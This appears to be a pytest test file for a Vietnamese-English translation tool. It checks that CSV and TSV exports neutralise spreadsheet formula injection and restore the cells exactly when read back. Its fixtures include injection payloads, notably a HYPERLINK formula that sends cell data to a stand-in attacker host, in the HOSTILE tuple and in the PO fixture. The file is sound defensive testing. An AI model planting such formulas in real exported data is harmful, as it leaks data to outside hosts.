"""Fault: CSV/TSV formula injection. A cell starting with = + - @ (or tab, CR) is run by Excel and
LibreOffice as a formula. Every table songngu writes for spreadsheets neutralises such cells with a
leading apostrophe (OWASP), through one function, and songngu's own readers undo it exactly."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from songngu.glossary.formats import TABLE_DELIMITERS, load_glossary, save_glossary
from songngu.glossary.model import Glossary, GlossaryEntry
from songngu.spreadsheet import FORMULA_TRIGGERS, neutralise, restore
from songngu.translate.cli import main
from songngu.translate.formats.characters import portable_text
from songngu.translate.formats.memory_export import TSV_HEADER
from songngu.translate.formats.tsv import loads_rows
from songngu.translate.memory import MemoryUnit, TranslationMemory

HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")


def runnable(cell: str) -> bool:
    """What a spreadsheet would take for a formula."""
    return cell[:1] in tuple(FORMULA_TRIGGERS)


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab x"), max_size=8) | st.text(max_size=8))
def test_neutralise_is_safe_and_restore_undoes_it(cell: str) -> None:
    written = neutralise(cell)
    assert not runnable(written)
    assert restore(written) == cell


def test_a_persons_apostrophe_is_kept_unless_it_marks_a_formula_as_text() -> None:
    assert restore("'s-Hertogenbosch") == "'s-Hertogenbosch"
    assert restore("'=1+1") == "=1+1"  # a spreadsheet shows "=1+1" too


def hostile_po() -> str:
    return (
        'msgid ""\nmsgstr ""\n"Project-Id-Version: bai\\n"\n"PO-Revision-Date: 2024-05-01 10:00+0000\\n"\n'
        '"Last-Translator: A <a@example.org>\\n"\n"Language-Team: English\\n"\n"Language: en\\n"\n'
        '"MIME-Version: 1.0\\n"\n"Content-Type: text/plain; charset=UTF-8\\n"\n'
        '"Content-Transfer-Encoding: 8bit\\n"\n\n'
        "#. glossary: Bộ Ngoại giao → Ministry of Foreign Affairs [met]\n"
        "#. machine translation: The Ministry of Foreign Affairs held a briefing.\n"
        'msgctxt "bai:1:1"\nmsgid "Bộ Ngoại giao họp báo."\n'
        'msgstr "The =HYPERLINK(\\"http://evil.example\\") held a briefing."\n'
    )


def test_review_candidates_csv_is_neutralised(tmp_path: Path, write_po: Callable[..., Path]) -> None:
    po = write_po(hostile_po())
    out = tmp_path / "candidates.csv"
    assert (
        main(["review", "import", str(po), "--tm", str(tmp_path / "tm.sqlite"), "--candidates", str(out)])
        == 0
    )
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(rows) == 2
    assert not any(runnable(cell) for row in rows for cell in row)
    # songngu reads it back as the reviewer wrote it.
    (entry,) = load_glossary(out)
    assert entry.en == '=HYPERLINK("http://evil.example")'


def test_export_tm_tsv_is_neutralised(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = tmp_path / "tm.sqlite"
    units = [
        MemoryUnit(f"câu {i}", target, "@origin.po", f"-{i}", True, "2024-05-01T10:00:00Z")
        for i, target in enumerate(HOSTILE)
    ]
    with TranslationMemory(db) as memory:
        memory.store(units)
    assert main(["export-tm", "--format", "tsv", "--tm", str(db)]) == 0
    text = capsys.readouterr().out
    for line in text.splitlines():
        assert not any(runnable(cell) for cell in line.split("\t")), line
    rows = loads_rows(text, "<stdout>", TSV_HEADER)
    # What was stored, under the character policy every output format applies (a CR is a line feed).
    assert sorted((restore(r[1]), restore(r[2]), restore(r[3])) for r in rows) == sorted(
        (portable_text(u.target), u.origin, u.segment_id) for u in units
    )


def hostile_glossary() -> Glossary:
    return Glossary(
        [
            GlossaryEntry(
                vi=f"thuật ngữ {i}",
                en=f"{text}",
                acronym="@AC" if i == 0 else "",
                en_variants=("-variant",) if i == 1 else (),
                note=f"-{i}" if i % 2 else "'=already quoted",
            )
            for i, text in enumerate(text.strip("\t\r") for text in HOSTILE)
        ]
    )


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_tbx_to_table_convert_is_neutralised_and_round_trips(tmp_path: Path, suffix: str) -> None:
    source = tmp_path / "g.tbx"
    save_glossary(hostile_glossary(), source)
    out = tmp_path / f"g{suffix}"
    assert main(["glossary", "convert", str(source), str(out)]) == 0
    delimiter = TABLE_DELIMITERS[suffix[1:]]
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8")), delimiter=delimiter))
    assert not any(runnable(cell) for row in rows for cell in row)
    assert list(load_glossary(out)) == list(load_glossary(source)) == list(hostile_glossary())
